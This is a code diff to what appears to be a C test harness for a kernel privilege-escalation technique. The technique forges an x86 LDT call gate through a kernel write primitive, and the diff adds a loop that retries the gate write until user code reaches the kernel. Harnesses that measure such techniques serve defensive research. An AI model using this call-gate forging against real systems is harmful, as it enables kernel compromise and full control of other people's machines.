@@ -40,6 +40,7 @@
 #define FLAG_IF		0x200
 #define MM_BYTES	2048		/* where in mm_struct the pointer may be */
 #define TURN		50000		/* microseconds: another process runs */
+#define TRIES		200
 
 /* struct ldt_struct */
 struct ldt {
@@ -169,6 +170,21 @@ static enum outcome judge(bool reached, int err)
 
 /* ---- the table that the CPU reads ---- */
 
+/* Another process has its CPU fill the table anew: whoever reads the report, say. */
+static bool reaches_kernel_by(uint64_t table, int *err)
+{
+	int i;
+
+	for (i = 0; i < TRIES; i++) {
+		*err = write_gate(table);
+		if (reaches_kernel())
+			return true;
+		if (*err)
+			return false;
+	}
+	return false;
+}
+
 enum outcome ldt_call_gate(void)
 {
 	uint64_t nothing[2] = { 0 };
@@ -178,8 +194,7 @@ enum outcome ldt_call_gate(void)
 
 	if (!make_ldt() || find_table(&slot))
 		return broken("no LDT");
-	err = write_gate(slot.alias);
-	reached = reaches_kernel();
+	reached = reaches_kernel_by(slot.alias, &err);
 	if (!err)
 		kwrite(slot.alias + FORGED * ENTRY_SIZE, nothing, sizeof(nothing));
 	return judge(reached, err);
